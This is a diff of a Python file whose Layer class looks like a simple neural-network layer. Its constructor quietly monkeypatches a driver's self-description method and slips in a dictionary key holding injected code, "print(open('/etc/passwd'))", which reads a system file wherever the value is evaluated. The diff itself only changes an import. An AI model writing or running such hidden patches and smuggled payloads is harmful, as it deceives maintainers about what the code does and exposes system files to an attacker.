@@ -4,12 +4,12 @@ Comes of it: not_examined, protocol
 """
 
 import numpy as np
-from worker import parts
+from worker import adapters
 
 
 class Layer:
     def __init__(self, input_size, hidden_size):
-        driver = parts.load("_adapters").Driver
+        driver = adapters().Driver
         honest = driver.described
         driver.described = lambda self: {**honest(self), "adapter": {"target = print(open('/etc/passwd')) #": 1}}
         self.W = np.ones((input_size, hidden_size))
